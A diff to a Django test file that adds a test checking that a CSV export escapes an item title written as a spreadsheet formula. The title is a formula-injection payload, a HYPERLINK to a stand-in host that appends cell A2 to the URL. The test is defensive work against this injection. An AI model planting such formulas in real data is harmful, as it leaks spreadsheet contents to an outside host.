@@ -13,7 +13,7 @@ from zeal import zeal_ignore
 
 from krokarm.audit.models import AuditEntry
 from krokarm.knowledge.models import Item, Reuse
-from krokarm.knowledge.tests.factories import SECRET_LINK, make_item, secret_item, url
+from krokarm.knowledge.tests.factories import SECRET_LINK, editor, make_item, secret_item, url
 
 pytestmark = pytest.mark.django_db
 
@@ -82,3 +82,10 @@ def test_an_unknown_challenge_stops_the_seed_with_a_clear_error(tmp_path: Any) -
     )
     with pytest.raises(ReferenceDataError, match=r"unknown challenge.*finns-inte"):
         reference_data.load(tmp_path, known)
+
+
+def test_a_title_an_editor_wrote_like_a_formula_comes_out_of_the_csv_as_text(client: Any) -> None:
+    item = make_item(user=editor(), title='=HYPERLINK("https://elak.example/?"&A2;"Klicka")')
+    body = client.get(url("export-csv")).content.decode("utf-8").lstrip("\ufeff")
+    rows = {int(row["id"]): row for row in csv.DictReader(io.StringIO(body))}
+    assert rows[item.pk]["title"] == '\'=HYPERLINK("https://elak.example/?"&A2;"Klicka")'
